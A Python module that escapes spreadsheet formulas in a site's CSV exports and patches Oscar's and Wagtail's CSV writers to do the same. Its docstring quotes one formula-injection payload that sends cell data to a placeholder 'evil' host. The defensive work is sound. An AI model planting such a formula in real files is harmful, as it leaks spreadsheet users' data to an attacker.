"""One rule for every CSV this site hands out: a cell a spreadsheet would read as a formula is written
as text.

Operators, tourists and editors type names that end up in CSV files staff and operators open in a
spreadsheet: a name like `=HYPERLINK("http://evil/?"&A1,"x")` would run there (CSV/formula injection,
OWASP). A text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`,
which spreadsheets show as text and do not display. Numbers, and texts that are just a number such as
`-12.50`, stay as they are: they cannot be formulas and the sums must keep working.

`csv_writer` is ours (the operators' statements); `install` puts the same rule into Oscar's
`UnicodeCSVWriter` (the dashboard's order list and reports) and Wagtail's spreadsheet exports (its
reports), which write CSV without it.
"""

from __future__ import annotations

import csv
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")


def csv_cell(value):
    """`value`, made safe to open in a spreadsheet (see the module)."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class _SafeWriter:
    """A csv writer (or DictWriter) whose rows go through `csv_cell`."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        if isinstance(row, dict):
            return self._writer.writerow({key: csv_cell(value) for key, value in row.items()})
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(file, **kwargs) -> _SafeWriter:
    """`csv.writer(file, **kwargs)` whose every cell goes through `csv_cell`."""
    return _SafeWriter(csv.writer(file, **kwargs))


def install() -> None:
    """Route the libraries' CSV exports through `csv_cell` (called once from CoreConfig.ready)."""
    from oscar.core.compat import UnicodeCSVWriter
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(UnicodeCSVWriter, "_csv_cell_installed", False):
        return
    oscar_writerow = UnicodeCSVWriter.writerow
    wagtail_write_csv_row = SpreadsheetExportMixin.write_csv_row

    def writerow(self, row):
        return oscar_writerow(self, [csv_cell(value) for value in row])

    def write_csv_row(self, writer, row_dict):
        return wagtail_write_csv_row(self, _SafeWriter(writer), row_dict)

    UnicodeCSVWriter.writerow = writerow
    UnicodeCSVWriter._csv_cell_installed = True
    SpreadsheetExportMixin.write_csv_row = write_csv_row
